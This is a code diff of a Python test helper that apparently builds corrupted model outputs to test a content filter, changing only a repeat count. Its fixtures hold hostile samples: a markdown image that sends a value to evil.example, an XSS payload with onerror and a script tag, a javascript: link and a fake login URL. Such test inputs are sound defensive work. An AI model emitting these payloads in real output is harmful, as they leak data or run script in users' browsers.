@@ -120,7 +120,7 @@ def _spoilt(text: str, checked: Mapping[str, Any], fault: str) -> str:
         "picture": ("![图](http://evil.example/pixel?total=97)",) * 2,
         "html": ("<img src=x onerror=alert(1)><script>steal()</script>",) * 2,
         "link": ("[点此查看](javascript:alert(1)) https://evil.example/login",) * 2,
-        "endless": ("还要说明的是，情况仍在核实之中，请继续关注。" * 900,) * 2,
+        "endless": ("还要说明的是，情况仍在核实之中，请继续关注。" * 400,) * 2,
     }
     instead = {
         "confident": (
